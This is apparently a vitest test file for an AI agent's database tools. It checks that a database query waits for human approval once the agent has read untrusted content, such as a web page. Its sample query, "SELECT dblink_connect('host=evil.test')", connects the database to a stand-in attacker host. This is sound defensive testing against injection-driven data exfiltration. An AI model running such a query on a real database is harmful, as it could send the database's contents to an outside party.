/** What the tools for databases say of themselves; questions to a real server are elsewhere. */
import { expect, it, onTestFinished } from 'vitest';
import { afterReading } from '../../../src/agent/tools/after-reading.ts';
import { DatabaseSettings } from '../../../src/config/databases.ts';
import { Database } from '../../../src/database/database.ts';
import { createDatabaseTools } from '../../../src/database/database-tools.ts';
import { silent } from '../../support/core.ts';
import { ASK_MANAGER, rules } from '../../support/tools.ts';

it('a question to a database waits for a human once strangers were read: its functions may send what it holds', () => {
  const settings = DatabaseSettings.parse({ url: 'postgres://reader@127.0.0.1:9/shop', password: 'x' });
  const database = new Database('shop', settings, silent);
  onTestFinished(() => database.stop());
  const tools = createDatabaseTools(new Map([['shop', database]]), { shop: settings });
  const query = tools.find(({ name }) => name === 'db_query')!;
  const args = { database: 'shop', sql: "SELECT dblink_connect('host=evil.test')", values: [] };
  const authorizations = rules({ name: 'refunds', tool: 'refund', ...ASK_MANAGER });

  const decide = (strangers: readonly string[]) =>
    afterReading(
      { kind: 'allow', rule: 'reads' },
      { tool: query, args },
      { strangers, isTyped: () => false, isOwn: () => false },
      { ...authorizations, defaults: { ...authorizations.defaults, approvers: ['role:manager'] } } as never,
    ).kind;

  expect(decide([])).toBe('allow');
  expect(decide(['a page'])).toBe('ask');
});
